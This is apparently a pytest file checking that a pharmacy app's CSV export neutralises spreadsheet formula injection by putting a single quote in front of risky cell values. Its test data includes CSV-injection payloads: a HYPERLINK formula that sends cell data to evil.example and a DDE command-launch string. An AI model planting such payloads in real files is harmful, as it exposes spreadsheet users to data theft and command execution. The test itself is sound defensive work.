"""The certified-pharmacy CSV opens in a spreadsheet as text: a pharmacy name typed as a
formula (=, +, -, @, a tab or a carriage return first) is exported with a single quote in
front, so Excel or LibreOffice shows it rather than runs it (OWASP, CSV injection)."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from pytestqt.qtbot import QtBot

from app.records import Pharmacy
from app.statuses import PharmacySetting
from local_store.session import Session
from ui.pharmacy_list import PharmacyListView
from ui.registry_calls import RegistryCalls
from ui.spreadsheet_cells import spreadsheet_safe
from ui.tasks import StoreWorker

TODAY = date(2026, 3, 2)
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for the order")',
    "+1 Pharmacy",
    "-2+3 Drugs",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(name: str) -> None:
    assert spreadsheet_safe(name) == "'" + name


@pytest.mark.parametrize("text", ["Main Street Pharmacy", "", "O'Neil's = fine", "3-day", "1"])
def test_other_cells_are_exported_as_they_are(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_the_exported_file_holds_formula_names_as_text(
    tmp_path: Path, prescriber_session: Session, qtbot: QtBot
) -> None:
    names = [*FORMULA_NAMES, "Main Street Pharmacy"]
    with prescriber_session.transaction():
        for n, name in enumerate(names):
            prescriber_session.ledger.save_pharmacy(
                Pharmacy(f"rx-{n}", PharmacySetting.OUTPATIENT, f"ar-{n}", name, TODAY, TODAY)
            )
    worker = StoreWorker()
    view = PharmacyListView(prescriber_session, worker, RegistryCalls(lambda: None), lambda: TODAY,
                            "Find a certified pharmacy.")  # fmt: skip
    qtbot.addWidget(view)
    view.load()
    qtbot.waitUntil(lambda: view.table.rowCount() == len(names), timeout=5000)
    exported = tmp_path / "certified-pharmacies.csv"
    view.export_csv(str(exported))
    qtbot.waitUntil(lambda: worker.busy == 0, timeout=5000)
    worker.shutdown()
    with exported.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["pharmacy_id", "name", "setting", "certified_as_of"]
    by_id = {row[0]: row for row in rows[1:]}
    for n, name in enumerate(FORMULA_NAMES):
        assert by_id[f"rx-{n}"][1:] == ["'" + name, "outpatient", TODAY.isoformat()]
    assert by_id[f"rx-{len(FORMULA_NAMES)}"][1] == "Main Street Pharmacy"
